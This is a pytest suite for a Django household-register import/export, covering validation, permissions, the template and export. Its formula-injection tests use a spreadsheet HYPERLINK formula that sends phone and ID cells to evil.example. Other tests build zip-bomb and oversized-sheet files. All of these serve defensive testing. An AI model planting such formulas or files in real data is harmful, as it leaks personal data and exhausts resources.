"""The register import/export: all-or-nothing .xlsx/.csv import with Chinese headers, the template and the export.

Every file is built in code. Every refused import also checks that nothing at all was written.
"""

import csv
import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from points import clock
from points.exceptions import ImportRefused, OutOfScope
from points.models import Household, HouseholdEvent, Member
from points.register import import_export as register_io
from points.register.import_export import (
    COLUMNS,
    MAX_BYTES,
    MAX_ROWS,
    register_export,
    register_import,
    register_template,
)
from points.register.services import household_archive
from points.register.validators import make_id_number
from tests.factories import make_household, make_village

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ID_1 = make_id_number("11010519580101001")
ID_2 = make_id_number("11010519600202002")
BAD_ID = ID_1[:17] + ("0" if ID_1[17] != "0" else "1")  # right length, wrong check character


# --- builders ------------------------------------------------------------------------------------------------------


def row(number, name, relation="户主", gender="男", *, group="一组", address="", birth="", phone="", id_number=""):
    """One data row in COLUMNS order."""
    return [number, group, address, name, relation, gender, birth, phone, id_number]


def to_xlsx(rows, header=COLUMNS) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(header))
    for values in rows:
        sheet.append(list(values))
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def to_csv(rows, header=COLUMNS, encoding="utf-8-sig") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def read_xlsx(data: bytes) -> list[list]:
    workbook = load_workbook(io.BytesIO(data), read_only=True)
    try:
        return [list(values) for values in workbook.worksheets[0].iter_rows(values_only=True)]
    finally:
        workbook.close()


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def counts():
    return Household.objects.count(), Member.objects.count(), HouseholdEvent.objects.count()


def refused(village, name, data, actor):
    """Import that must be refused whole: returns the RowErrors after checking that nothing was written."""
    before = counts()
    with pytest.raises(ImportRefused) as info:
        register_import(village=village, name=name, data=data, actor=actor)
    assert counts() == before
    assert info.value.errors, "an ImportRefused must say what is wrong"
    return info.value.errors


def assert_errors(errors, expected):
    """``expected``: [(row, column, phrase)], in order; each message must contain its phrase."""
    assert [(e.row, e.column) for e in errors] == [(r, c) for r, c, _ in expected], [str(e) for e in errors]
    for error, (_r, _c, phrase) in zip(errors, expected, strict=True):
        assert phrase in str(error.message), (str(error.message), phrase)


def household_snapshot(village):
    """Households and members of a village, keyed by what a file carries (no ids)."""
    households = {
        h.number: (h.group.name, h.address, h.head_name, h.head_initials)
        for h in Household.objects.filter(village=village).select_related("group")
    }
    members = sorted(
        (m.household.number, m.name, m.name_initials, m.relation, m.gender, m.birth_year, m.phone, m.id_number)
        for m in Member.objects.filter(village=village).select_related("household")
    )
    return households, members


# Three households, seven members. Numbers, years and phones are ints/floats, as Excel hands them over.
GOOD_ROWS = [
    row(101, "张三丰", address="幸福路 1 号", birth=1958, phone=13800138000, id_number=ID_1),
    row(101, "李秀英", "配偶", "女", address="幸福路 1 号", birth=1960.0, id_number=ID_2),
    row(101, "陈明", "儿子", birth=1985),
    row(102, "刘德华", group="二组", address="幸福路 2 号", birth=1970, phone=13912345678.0),
    row(102, "孙丽", "女儿", "女", group="二组", birth=2001),
    row(103, "郑国庆", birth="1949"),
    row(103, "钱芳", "配偶", "女"),
]
GOOD_HEADS = {"101": ("张三丰", "zsf"), "102": ("刘德华", "ldh"), "103": ("郑国庆", "zgq")}


def good_csv_rows():
    return [[str(v) if not isinstance(v, float) else str(int(v)) for v in values] for values in GOOD_ROWS]


# --- good files ----------------------------------------------------------------------------------------------------


def test_good_xlsx_imports_every_household_member_and_event(cast):
    before_households, before_members, before_events = counts()

    count = register_import(village=cast.village_a, name="户籍.xlsx", data=to_xlsx(GOOD_ROWS), actor=cast.committee_a)

    assert count == 3
    assert counts() == (before_households + 3, before_members + 7, before_events + 3)
    households = {h.number: h for h in Household.objects.filter(village=cast.village_a, number__in=GOOD_HEADS)}
    assert {n: (h.head_name, h.head_initials) for n, h in households.items()} == GOOD_HEADS
    assert households["101"].group.name == "一组"
    assert households["102"].group.name == "二组"
    assert households["101"].address == "幸福路 1 号"
    assert households["103"].address == ""
    assert all(h.group.village_id == cast.village_a.id for h in households.values())

    head = Member.objects.get(household=households["101"], relation="head")
    assert (head.name, head.name_initials, head.gender, head.birth_year) == ("张三丰", "zsf", "M", 1958)
    assert head.phone == "13800138000"  # an int cell, not "13800138000.0"
    assert head.id_number == ID_1
    spouse = Member.objects.get(household=households["101"], relation="spouse")
    assert (spouse.name, spouse.gender, spouse.birth_year, spouse.phone) == ("李秀英", "F", 1960, "")
    assert Member.objects.get(household=households["102"], relation="head").phone == "13912345678"
    assert Member.objects.get(household=households["103"], relation="head").birth_year == 1949
    assert sorted(Member.objects.filter(household=households["101"]).values_list("relation", flat=True)) == [
        "head",
        "son",
        "spouse",
    ]
    assert set(Member.objects.filter(household__in=households.values()).values_list("village_id", flat=True)) == {
        cast.village_a.id
    }

    events = HouseholdEvent.objects.filter(household__in=households.values())
    assert events.count() == 3
    for event in events:
        assert event.kind == HouseholdEvent.Kind.IMPORTED
        assert event.village_id == cast.village_a.id
        assert event.actor_id == cast.committee_a.id
        assert "户籍.xlsx" in event.detail
    # The existing households are untouched.
    assert Household.objects.get(village=cast.village_a, number="001").head_name == "张三丰"


@pytest.mark.parametrize("encoding", ["utf-8-sig", "gbk", "utf-8"])
def test_good_csv_imports_in_utf8_bom_gbk_and_plain_utf8(cast, encoding):
    data = to_csv(good_csv_rows(), encoding=encoding)
    if encoding == "utf-8-sig":
        assert data.startswith(b"\xef\xbb\xbf")
    if encoding == "gbk":
        assert "户号".encode("gbk") in data and "户号".encode() not in data
    before = counts()

    assert register_import(village=cast.village_a, name="HUJI.CSV", data=data, actor=cast.committee_a) == 3

    assert counts() == (before[0] + 3, before[1] + 7, before[2] + 3)
    heads = dict(
        Household.objects.filter(village=cast.village_a, number__in=GOOD_HEADS).values_list("number", "head_name")
    )
    assert heads == {n: name for n, (name, _i) in GOOD_HEADS.items()}
    assert Member.objects.get(village=cast.village_a, name="李秀英", household__number="101").gender == "F"


def test_columns_in_any_order_blank_rows_and_the_status_column_are_accepted(cast):
    header = [*reversed(COLUMNS), "状态"]
    rows = [[*reversed(values), "在册"] for values in good_csv_rows()[:3]]
    rows.insert(1, [""] * len(header))  # a blank row in the middle
    rows += [[""] * len(header), [""] * len(header)]  # trailing blank rows, as spreadsheets leave them
    assert register_import(village=cast.village_a, name="a.xlsx", data=to_xlsx(rows, header), actor=cast.committee_a)
    assert Household.objects.get(village=cast.village_a, number="101").members.count() == 3


# --- bad files: every problem named, nothing written ---------------------------------------------------------------


def _oversized():
    data = to_csv(good_csv_rows())
    data += b"#" * (MAX_BYTES + 1 - len(data))
    assert len(data) == MAX_BYTES + 1
    return data


def _too_many_rows():
    return to_csv([row(f"H{i}", "张三丰") for i in range(MAX_ROWS + 1)])


def _utf16():
    return to_csv(good_csv_rows(), encoding="utf-16")


def _next_year():
    return clock.localdate().year + 1


# (id, file name, data builder, [(row, column, phrase)])
BAD_CASES = [
    # --- one bad cell
    (
        "missing-name",
        "a.csv",
        lambda: to_csv([row("201", "张三丰"), row("201", "", "配偶", "女")]),
        [(3, "姓名", "不能为空")],
    ),
    ("name-too-long", "a.csv", lambda: to_csv([row("201", "张" * 51)]), [(2, "姓名", "姓名过长")]),
    ("duplicate-number", "a.csv", lambda: to_csv([row("001", "张三丰")]), [(2, "户号", "户号 001 在本村已存在")]),
    ("empty-number", "a.csv", lambda: to_csv([row("", "张三丰")]), [(2, "户号", "不能为空")]),
    ("bad-number", "a.csv", lambda: to_csv([row("2-01", "张三丰")]), [(2, "户号", "户号只能由字母和数字组成")]),
    (
        "unknown-group",
        "a.csv",
        lambda: to_csv([row("201", "张三丰", group="五组")]),
        [(2, "组", "本村没有「五组」，现有的组：一组、二组")],
    ),
    ("empty-group", "a.csv", lambda: to_csv([row("201", "张三丰", group="")]), [(2, "组", "不能为空")]),
    (
        "phone-10-digits",
        "a.csv",
        lambda: to_csv([row("201", "张三丰", phone="1380013800")]),
        [(2, "手机号", "手机号应为 11 位数字，以 1 开头")],
    ),
    (
        "phone-starts-with-2",
        "a.csv",
        lambda: to_csv([row("201", "张三丰", phone="23800138000")]),
        [(2, "手机号", "手机号应为 11 位数字，以 1 开头")],
    ),
    (
        "phone-10-digits-xlsx-number",
        "a.xlsx",
        lambda: to_xlsx([row(201, "张三丰", phone=1380013800)]),
        [(2, "手机号", "手机号应为 11 位数字")],
    ),
    (
        "id-bad-checksum",
        "a.csv",
        lambda: to_csv([row("201", "张三丰", id_number=BAD_ID)]),
        [(2, "身份证号", "身份证号应为 18 位且校验位正确")],
    ),
    (
        "id-17-digits",
        "a.csv",
        lambda: to_csv([row("201", "张三丰", id_number=ID_1[:17])]),
        [(2, "身份证号", "身份证号应为 18 位且校验位正确")],
    ),
    (
        "birth-1850",
        "a.csv",
        lambda: to_csv([row("201", "张三丰", birth="1850")]),
        [(2, "出生年份", "出生年份应为 1900 到今年之间的四位数字")],
    ),
    (
        "birth-abc",
        "a.csv",
        lambda: to_csv([row("201", "张三丰", birth="abc")]),
        [(2, "出生年份", "出生年份应为 1900 到今年之间的四位数字")],
    ),
    (
        "birth-next-year",
        "a.xlsx",
        lambda: to_xlsx([row("201", "张三丰", birth=_next_year())]),
        [(2, "出生年份", "出生年份应为 1900 到今年之间")],
    ),
    ("bad-gender", "a.csv", lambda: to_csv([row("201", "张三丰", gender="M")]), [(2, "性别", "应为「男」或「女」")]),
    (
        "bad-relation",
        "a.csv",
        lambda: to_csv([row("201", "张三丰"), row("201", "李秀英", "老伴", "女")]),
        [(3, "与户主关系", "应为以下之一：户主、配偶")],
    ),
    (
        "no-head",
        "a.csv",
        lambda: to_csv([row("201", "李秀英", "配偶", "女"), row("201", "陈明", "儿子")]),
        [(2, "与户主关系", "户号 201 应有且只有一位户主，现有 0 位")],
    ),
    (
        "two-heads",
        "a.csv",
        lambda: to_csv([row("201", "张三丰"), row("201", "陈明"), row("202", "刘德华")]),
        [(2, "与户主关系", "户号 201 应有且只有一位户主，现有 2 位")],
    ),
    (
        "group-differs-within-household",
        "a.csv",
        lambda: to_csv([row("201", "张三丰"), row("201", "陈明", "儿子", group="二组")]),
        [(3, "组", "与第 2 行同一户号的组不一致")],
    ),
    (
        "address-differs-within-household",
        "a.csv",
        lambda: to_csv([row("201", "张三丰", address="幸福路 1 号"), row("201", "陈明", "儿子", address="和平路")]),
        [(3, "地址", "与第 2 行同一户号的地址不一致")],
    ),
    # --- bad header
    (
        "missing-required-column",
        "a.csv",
        lambda: to_csv(
            [[v for i, v in enumerate(row("201", "张三丰")) if i != 5]], [c for c in COLUMNS if c != "性别"]
        ),
        [(1, "性别", "缺少这一列")],
    ),
    (
        "unknown-column",
        "a.xlsx",
        lambda: to_xlsx([[*row("201", "张三丰"), "x"]], [*COLUMNS, "备注"]),
        [(1, "备注", "未知的列，请使用模板中的列名")],
    ),
    (
        "duplicate-column",
        "a.csv",
        lambda: to_csv([[*row("201", "张三丰"), "李四"]], [*COLUMNS, "姓名"]),
        [(1, "姓名", "列名重复")],
    ),
    # --- unreadable files
    ("utf16-csv", "a.csv", _utf16, [(0, "", "文件编码无法识别")]),
    ("random-bytes-csv", "a.csv", lambda: b"\xff\xfe\x00\x81" * 50, [(0, "", "文件编码无法识别")]),
    ("txt-file", "a.txt", lambda: to_csv(good_csv_rows()), [(0, "", "不支持的文件类型")]),
    ("xls-file", "a.xls", lambda: to_xlsx(GOOD_ROWS), [(0, "", "不支持的文件类型")]),
    ("no-extension", "register", lambda: to_csv(good_csv_rows()), [(0, "", "不支持的文件类型")]),
    ("csv-named-xlsx", "a.xlsx", lambda: to_csv(good_csv_rows()), [(0, "", "文件不是有效的 Excel (.xlsx) 文件")]),
    (
        "zip-but-not-excel",
        "a.xlsx",
        lambda: _zip({"hello.txt": b"hello"}),
        [(0, "", "文件不是有效的 Excel (.xlsx) 文件")],
    ),
    ("empty-file", "a.csv", lambda: b"", [(0, "", "文件是空的")]),
    ("empty-xlsx-name", "a.xlsx", lambda: b"", [(0, "", "文件是空的")]),
    ("header-only-csv", "a.csv", lambda: to_csv([]), [(0, "", "文件中没有数据行")]),
    ("header-only-xlsx", "a.xlsx", lambda: to_xlsx([]), [(0, "", "文件中没有数据行")]),
    ("header-and-blank-rows", "a.csv", lambda: to_csv([[""] * 9] * 3), [(0, "", "文件中没有数据行")]),
    ("oversized", "a.csv", _oversized, [(0, "", "文件超过 2 MB")]),
    ("too-many-rows", "a.csv", _too_many_rows, [(0, "", "文件超过 5000 行")]),
]


@pytest.mark.parametrize(("name", "build", "expected"), [c[1:] for c in BAD_CASES], ids=[c[0] for c in BAD_CASES])
def test_bad_file_is_refused_whole_with_every_problem_named(cast, name, build, expected):
    errors = refused(cast.village_a, name, build(), cast.committee_a)

    assert_errors(errors, expected)


def test_file_of_exactly_2_mb_is_read(cast):
    """The limit is "more than 2 MB": a file of exactly 2 MB whose tail is blank lines imports."""
    data = to_csv(good_csv_rows())
    data += b"\r\n" * ((MAX_BYTES - len(data)) // 2)
    data += b"\n" * (MAX_BYTES - len(data))
    assert len(data) == MAX_BYTES
    assert register_import(village=cast.village_a, name="a.csv", data=data, actor=cast.committee_a) == 3


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(to_csv(good_csv_rows()).replace(b"\r\n", b"\r"), id="cr-line-endings"),
        pytest.param(to_csv([row("201", "张三丰", address="路" * 200_000)]), id="field-over-csv-limit"),
    ],
)
def test_csv_the_csv_module_cannot_split_is_imported_or_refused_never_a_crash(cast, data):
    before = counts()
    try:
        register_import(village=cast.village_a, name="a.csv", data=data, actor=cast.committee_a)
    except ImportRefused as exc:
        assert exc.errors
        assert counts() == before


def test_bad_file_on_five_rows_lists_every_problem_in_row_order_and_writes_no_good_row(cast):
    rows = [
        row("201", "张三丰"),  # 2: good
        row("201", "李秀英", "配偶", "女", phone="1380013800"),  # 3: bad phone
        row("202", "刘德华", group="二组"),  # 4: good
        row("202", "孙丽", "女儿", gender="F", group="二组"),  # 5: bad gender
        row("203", "郑国庆", group="五组"),  # 6: unknown group
        row("204", "林海", birth="abc", id_number=BAD_ID),  # 7: two problems on one row
        row("205", "胡敏", "户主", "女"),  # 8: good
    ]
    for name, data in (("a.csv", to_csv(rows)), ("a.xlsx", to_xlsx(rows))):
        errors = refused(cast.village_a, name, data, cast.committee_a)
        assert_errors(
            errors,
            [
                (3, "手机号", "手机号应为 11 位数字"),
                (5, "性别", "应为「男」或「女」"),
                (6, "组", "本村没有「五组」"),
                (7, "出生年份", "出生年份应为"),
                (7, "身份证号", "校验位"),
            ],
        )
        assert str(errors[0]) == "第 3 行「手机号」：手机号应为 11 位数字，以 1 开头"
    assert not Household.objects.filter(village=cast.village_a, number__in=["201", "202", "203", "204", "205"]).exists()
    assert not Member.objects.filter(name__in=["刘德华", "胡敏"]).exists()


def test_header_problems_are_all_listed_together(cast):
    header = ["户号", "组", "姓名", "备注", "电话"]
    errors = refused(cast.village_a, "a.csv", to_csv([["201", "一组", "张三丰", "", ""]], header), cast.committee_a)
    assert_errors(
        errors,
        [
            (1, "备注", "未知的列"),
            (1, "电话", "未知的列"),
            (1, "与户主关系", "缺少这一列"),
            (1, "性别", "缺少这一列"),
        ],
    )


def test_exactly_max_rows_is_accepted_by_the_parser(cast):
    data = to_csv([row(f"H{i}", "张三丰") for i in range(MAX_ROWS)])
    parsed = register_io.register_import_parse(village=cast.village_a, name="a.csv", data=data)
    assert len(parsed) == MAX_ROWS


def test_rows_beyond_the_cap_after_blank_rows_are_not_silently_dropped(cast):
    rows = [row(f"H{i}", "张三丰") for i in range(MAX_ROWS)]
    rows += [[""] * 9, [""] * 9, row("LAST", "刘德华")]
    data = to_csv(rows)
    try:
        parsed = register_io.register_import_parse(village=cast.village_a, name="a.csv", data=data)
    except ImportRefused:
        return
    assert "LAST" in {p.number for p in parsed}, "the last household was dropped without a word"


# --- zip bomb ------------------------------------------------------------------------------------------------------


def test_xlsx_that_would_inflate_past_50_mb_is_refused_before_openpyxl_reads_it(cast, monkeypatch):
    valid = to_xlsx(GOOD_ROWS)
    out = io.BytesIO(valid)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("xl/media/zeros.bin", "w", force_zip64=True) as entry:
            chunk = bytes(1024 * 1024)
            for _ in range(60):
                entry.write(chunk)
    bomb = out.getvalue()
    assert len(bomb) < MAX_BYTES  # small on the wire, so only the unzipped-size check can stop it
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        assert sum(i.file_size for i in archive.infolist()) > register_io.MAX_UNZIPPED_BYTES

    def must_not_be_called(*args, **kwargs):
        raise AssertionError("openpyxl was asked to open a zip bomb")

    monkeypatch.setattr(register_io, "load_workbook", must_not_be_called)
    errors = refused(cast.village_a, "a.xlsx", bomb, cast.committee_a)
    assert_errors(errors, [(0, "", "Excel 文件解压后过大，已拒绝")])

    # The same workbook without the extra entry is fine: the size, not the workbook, was refused.
    monkeypatch.undo()
    assert register_import(village=cast.village_a, name="a.xlsx", data=valid, actor=cast.committee_a) == 3


# --- permissions: the service --------------------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["committee_b", "grid_worker_a", "storekeeper_a", "resident_a", "stranger"])
def test_who_may_not_import_into_village_a(cast, role):
    before = counts()
    with pytest.raises(OutOfScope):
        register_import(village=cast.village_a, name="a.xlsx", data=to_xlsx(GOOD_ROWS), actor=cast[role])
    assert counts() == before


def test_scope_is_checked_before_the_file_is_read(cast):
    """An out-of-scope user learns nothing about the file (no row errors): OutOfScope, not ImportRefused."""
    with pytest.raises(OutOfScope):
        register_import(village=cast.village_a, name="a.txt", data=b"", actor=cast.committee_b)


@pytest.mark.parametrize("role", ["committee_a", "township_staff", "district_admin"])
def test_who_may_import_into_village_a(cast, role):
    assert register_import(village=cast.village_a, name="a.xlsx", data=to_xlsx(GOOD_ROWS), actor=cast[role]) == 3
    assert Household.objects.filter(village=cast.village_a).count() == 5
    assert set(HouseholdEvent.objects.filter(kind="imported").values_list("actor", flat=True)) == {cast[role].id}


# --- permissions and rendering: the admin views --------------------------------------------------------------------


def upload(name, data):
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def post_import(client, village, name, data):
    return client.post(reverse("points_register_import"), {"village": village.pk, "file": upload(name, data)})


def import_errors_html(response) -> str:
    html = response.content.decode()
    match = re.search(r'<ul data-testid="import-errors">(.*?)</ul>', html, re.S)
    assert match, "the error list is not rendered"
    return match.group(1)


def test_anonymous_is_sent_to_login(cast, client_for):
    client = client_for(None)
    before = counts()
    for response in (
        client.get(reverse("points_register_import")),
        post_import(client, cast.village_a, "a.xlsx", to_xlsx(GOOD_ROWS)),
        client.get(reverse("points_register_template")),
        client.get(reverse("points_register_export"), {"village": cast.village_a.pk}),
    ):
        assert response.status_code == 302
        assert "login" in response["Location"]
    assert counts() == before


@pytest.mark.parametrize("role", ["resident_a", "stranger", "grid_worker_a", "storekeeper_a", "committee_b"])
def test_others_do_not_get_the_import_page_or_import_into_village_a(cast, client_for, role):
    client = client_for(role)
    before = counts()
    page = client.get(reverse("points_register_import"))
    posted = post_import(client, cast.village_a, "a.xlsx", to_xlsx(GOOD_ROWS))
    assert counts() == before
    if role == "committee_b":  # may import, but only into village_b: village_a is not a choice
        assert page.status_code == 200
        assert posted.status_code == 200
        assert "village" in posted.context["form"].errors
    else:
        assert page.status_code in (302, 403, 404)
        assert posted.status_code in (302, 403, 404)
        for response in (page, posted):
            if response.status_code == 302:  # to the admin sign-in, not to a page of the register
                assert response["Location"].startswith(reverse("wagtailadmin_login"))


def test_committee_sees_the_import_form_for_its_village_only(cast, client_for):
    response = client_for("committee_a").get(reverse("points_register_import"))
    assert response.status_code == 200
    assert list(response.context["form"].fields["village"].queryset) == [cast.village_a]
    assert 'data-testid="import-errors"' not in response.content.decode()


def test_committee_posting_a_bad_file_sees_every_error_and_nothing_is_written(cast, client_for):
    rows = [
        row("201", "张三丰"),
        row("201", "", "配偶", "女"),
        row("001", "刘德华", phone="23800138000"),
    ]
    before = counts()
    response = post_import(client_for("committee_a"), cast.village_a, "坏文件.csv", to_csv(rows))

    assert response.status_code == 200
    assert counts() == before
    items = re.findall(r"<li>(.*?)</li>", import_errors_html(response), re.S)
    assert [item.strip() for item in items] == [
        "第 3 行「姓名」：不能为空",
        "第 4 行「户号」：户号 001 在本村已存在",
        "第 4 行「手机号」：手机号应为 11 位数字，以 1 开头",
    ]
    assert "发现 3 个问题，文件未导入" in response.content.decode()


def test_committee_posting_an_unreadable_file_sees_the_reason(cast, client_for):
    before = counts()
    response = post_import(client_for("committee_a"), cast.village_a, "a.csv", b"")
    assert response.status_code == 200
    assert "文件是空的" in import_errors_html(response)
    assert counts() == before


def test_committee_posting_a_good_file_is_redirected_and_households_are_created(cast, client_for):
    before = counts()
    response = post_import(client_for("committee_a"), cast.village_a, "a.xlsx", to_xlsx(GOOD_ROWS))

    assert response.status_code == 302
    assert response["Location"] == reverse("wagtailsnippets_points_household:list")
    assert counts() == (before[0] + 3, before[1] + 7, before[2] + 3)
    assert set(
        Household.objects.filter(village=cast.village_a, number__in=GOOD_HEADS).values_list("number", flat=True)
    ) == set(GOOD_HEADS)


def test_committee_cannot_choose_another_village_in_the_form(cast, client_for):
    before = counts()
    response = post_import(client_for("committee_a"), cast.village_b, "a.xlsx", to_xlsx(GOOD_ROWS))

    assert response.status_code == 200
    assert "village" in response.context["form"].errors
    assert counts() == before
    assert not Household.objects.filter(village=cast.village_b, number__in=GOOD_HEADS).exists()


def test_form_refuses_an_oversized_upload_before_the_service(cast, client_for):
    before = counts()
    response = post_import(client_for("committee_a"), cast.village_a, "a.csv", _oversized())
    assert response.status_code == 200
    assert "文件超过 2 MB" in str(response.context["form"].errors["file"])
    assert counts() == before


# --- template ------------------------------------------------------------------------------------------------------


def test_template_has_the_columns_and_its_example_imports_once_the_number_is_free(cast):
    data = register_template()
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook.worksheets[0]
    rows = [list(values) for values in sheet.iter_rows(values_only=True)]
    assert rows[0] == COLUMNS
    assert len(rows) >= 3
    assert all(r[0] == "001" for r in rows[1:])  # text, leading zeros kept

    # As is, the example clashes with village_a's household 001: refused, nothing written.
    assert_errors(
        refused(cast.village_a, "template.xlsx", data, cast.committee_a),
        [(2, "户号", "户号 001 在本村已存在"), (3, "户号", "户号 001 在本村已存在")],
    )

    for cells in sheet.iter_rows(min_row=2):
        cells[0].value = "301"
    out = io.BytesIO()
    workbook.save(out)
    assert register_import(village=cast.village_a, name="template.xlsx", data=out.getvalue(), actor=cast.committee_a)

    household = Household.objects.get(village=cast.village_a, number="301")
    assert (household.head_name, household.head_initials, household.group.name) == ("张三丰", "zsf", "一组")
    assert household.address == "幸福路 1 号"
    assert sorted(household.members.values_list("name", "relation", "birth_year")) == [
        ("张三丰", "head", 1958),
        ("李秀英", "spouse", 1960),
    ]


def test_template_view_serves_the_template(cast, client_for):
    response = client_for("committee_a").get(reverse("points_register_template"))
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_TYPE
    assert "attachment" in response["Content-Disposition"]
    assert read_xlsx(response.content)[0] == COLUMNS


# --- export --------------------------------------------------------------------------------------------------------


def test_export_has_the_columns_and_village_a_members_only(cast):
    household_archive(household=cast.household_a2, actor=cast.committee_a, reason="全家迁出")

    rows = read_xlsx(register_export(village=cast.village_a, actor=cast.committee_a))

    assert rows[0] == [*COLUMNS, "状态"]
    body = rows[1:]
    assert sorted((r[0], r[3], r[4], r[5]) for r in body) == [
        ("001", "张三丰", "户主", "男"),
        ("001", "李秀英", "配偶", "女"),
        ("002", "王建国", "户主", "男"),
    ]
    by_name = {r[3]: r for r in body}
    assert by_name["张三丰"][7] == "13800138001"
    assert by_name["张三丰"][9] == "在册"
    assert by_name["王建国"][9] == "已归档"
    assert "陈玉兰" not in {r[3] for r in body}  # village_b's head
    assert "刘德明" not in {r[3] for r in body}  # village_c's head


def test_export_then_import_into_a_fresh_village_reproduces_the_register(cast):
    register_import(village=cast.village_a, name="a.xlsx", data=to_xlsx(GOOD_ROWS), actor=cast.committee_a)
    exported = register_export(village=cast.village_a, actor=cast.committee_a)
    fresh = make_village(cast.township, "新河村", "XH03")

    count = register_import(village=fresh, name="export.xlsx", data=exported, actor=cast.township_staff)

    assert count == 5
    assert household_snapshot(fresh) == household_snapshot(cast.village_a)
    assert HouseholdEvent.objects.filter(village=fresh, kind="imported").count() == 5


@pytest.mark.parametrize("role", ["committee_b", "grid_worker_a", "storekeeper_a", "resident_a", "stranger"])
def test_who_may_not_export_village_a(cast, role):
    with pytest.raises(OutOfScope):
        register_export(village=cast.village_a, actor=cast[role])


def test_export_view_serves_the_committee_its_own_village(cast, client_for):
    response = client_for("committee_a").get(reverse("points_register_export"), {"village": cast.village_a.pk})
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_TYPE
    assert "register-QS01.xlsx" in response["Content-Disposition"]
    names = {r[3] for r in read_xlsx(response.content)[1:]}
    assert names == {"张三丰", "李秀英", "王建国"}


def test_export_view_does_not_serve_another_village(cast, client_for):
    response = client_for("committee_a").get(reverse("points_register_export"), {"village": cast.village_b.pk})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "Content-Disposition" not in response
    assert "village" in response.context["form"].errors
    assert "陈玉兰" not in response.content.decode()


# --- formula injection (CWE-1236) ----------------------------------------------------------------------------------

PLANTED = '=HYPERLINK("http://evil.example/?"&H2&I2,"点击查看")'


def test_export_writes_formula_like_text_as_quoted_text(cast):
    """A name or address typed like a formula stays text in the committee's spreadsheet: no cell of the export is
    a formula, every such cell carries Excel's quote prefix, and the text is exactly what was typed."""
    make_household(cast.village_a, number="077", head=PLANTED, members=[("@SUM(1,2)", "spouse", "F")])
    make_household(cast.village_a, number="078", head="-2+3 王")

    exported = register_export(village=cast.village_a, actor=cast.committee_a)

    sheet_xml = zipfile.ZipFile(io.BytesIO(exported)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the file
    sheet = load_workbook(io.BytesIO(exported)).active
    cells = {c.value: c for r in sheet.iter_rows() for c in r if isinstance(c.value, str)}
    for text in (PLANTED, "@SUM(1,2)", "-2+3 王"):
        assert cells[text].data_type == "s"
        assert cells[text].quotePrefix is True
    assert cells["张三丰"].quotePrefix is False  # ordinary text is left alone


def test_an_export_with_formula_like_names_imports_back_unchanged(cast):
    make_household(cast.village_a, number="077", head=PLANTED)
    exported = register_export(village=cast.village_a, actor=cast.committee_a)
    fresh = make_village(cast.township, "新河村", "XH03")

    register_import(village=fresh, name="export.xlsx", data=exported, actor=cast.township_staff)

    assert Member.objects.filter(village=fresh, name=PLANTED).exists()


# --- a sheet that declares its own size (a memory bomb in 1.5 KB) ------------------------------------------------


def declared(data: bytes, dimension: str, extra_rows: str = "") -> bytes:
    """``data`` (an .xlsx) with its first sheet's ``<dimension>`` replaced and ``extra_rows`` appended: what a
    hostile file can say about itself while staying a few kilobytes."""
    source = zipfile.ZipFile(io.BytesIO(data))
    entries = {}
    for name in source.namelist():
        content = source.read(name)
        if name == "xl/worksheets/sheet1.xml":
            content = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{dimension}"'.encode(), content)
            content = content.replace(b"</sheetData>", extra_rows.encode() + b"</sheetData>")
        entries[name] = content
    return _zip(entries)


def test_a_sheet_declaring_16384_columns_is_read_to_a_bounded_width(cast):
    data = declared(to_xlsx(GOOD_ROWS), "A1:XFD1048576")
    assert len(data) < 8 * 1024

    rows = register_io._read_rows("bomb.xlsx", data)

    assert max(len(r) for r in rows) <= register_io.MAX_COLUMNS
    parsed = register_io.register_import_parse(village=cast.village_a, name="bomb.xlsx", data=data)
    assert len(parsed) == 3  # the real rows still import


def test_a_sheet_with_one_cell_far_below_is_refused_without_reading_every_blank_row(cast):
    far = register_io.MAX_READ_ROWS + 50
    cell = f'<row r="{far}"><c r="A{far}" t="inlineStr"><is><t>999</t></is></c></row>'
    data = declared(to_xlsx(GOOD_ROWS), f"A1:I{far}", cell)
    assert len(data) < 8 * 1024

    errors = refused(cast.village_a, "far.xlsx", data, cast.committee_a)

    assert_errors(errors, [(0, "", "行数过多")])
